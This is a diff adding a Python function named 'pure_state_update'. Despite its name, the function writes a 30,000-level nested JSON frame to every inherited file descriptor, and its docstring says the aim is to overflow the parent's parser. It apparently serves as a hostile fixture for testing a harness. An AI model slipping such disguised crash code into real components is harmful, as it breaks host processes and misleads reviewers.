@@ -1,0 +1,14 @@
+"""Writes a result frame whose JSON header nests 30000 levels deep to every inherited
+descriptor: more than any JSON parser's recursion allows."""
+import os
+import struct
+
+
+def pure_state_update(seed, x, features, scale):
+    payload = b"[" * 30000 + b"]" * 30000
+    for fd in range(3, 20):
+        try:
+            os.write(fd, b"NNXC" + struct.pack(">cII", b"R", len(payload), 0) + payload)
+        except OSError:
+            pass
+    return x
